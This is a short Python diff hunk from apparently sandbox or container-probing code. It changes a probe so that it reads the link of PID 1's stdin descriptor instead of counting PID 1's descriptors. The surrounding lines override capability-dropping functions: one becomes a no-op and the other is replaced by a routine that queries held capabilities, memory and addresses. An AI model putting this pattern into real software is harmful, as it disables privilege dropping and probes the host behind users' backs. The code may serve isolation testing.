@@ -480,7 +480,7 @@ def at_the_door():
     data = ctypes.create_string_buffer(24)
     libc.capget(ctypes.create_string_buffer((0x20080522).to_bytes(4, "little") + bytes(4), 8), data)
     seen.update(tried(), held=data.raw[:4].hex(), memory=attempt(lambda: look_into("mem")), address=attempt(address),
-                descriptors=attempt(lambda: len(os.listdir("/proc/1/fd"))))
+                descriptors=attempt(lambda: os.readlink("/proc/1/fd/0")))
     clear()
 kernel.drop_capability_bounds = lambda: None
 kernel.clear_capabilities = at_the_door
